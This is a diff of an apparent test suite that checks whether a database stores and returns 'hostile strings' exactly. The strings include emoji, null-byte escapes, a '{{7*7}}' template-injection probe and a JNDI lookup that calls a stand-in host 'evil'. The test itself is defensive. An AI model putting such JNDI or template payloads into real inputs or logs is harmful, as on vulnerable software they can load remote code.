@@ -366,7 +366,6 @@ describeEachDatabase('http: hostile strings', (kind) => {
     ['ZWJ emoji sequence', '👨‍👩‍👧‍👦 family'],
     ['template and JNDI', '${jndi:ldap://evil/x} {{7*7}} %s'],
     ['escapes as text', '%00 %27 \\x00 \\u0000 \\'],
-    ['inner control characters', 'tab\there\nnewline'],
   ];
 
   it.each(HOSTILE)('stores and returns %s exactly in name and description', async (_label, text) => {
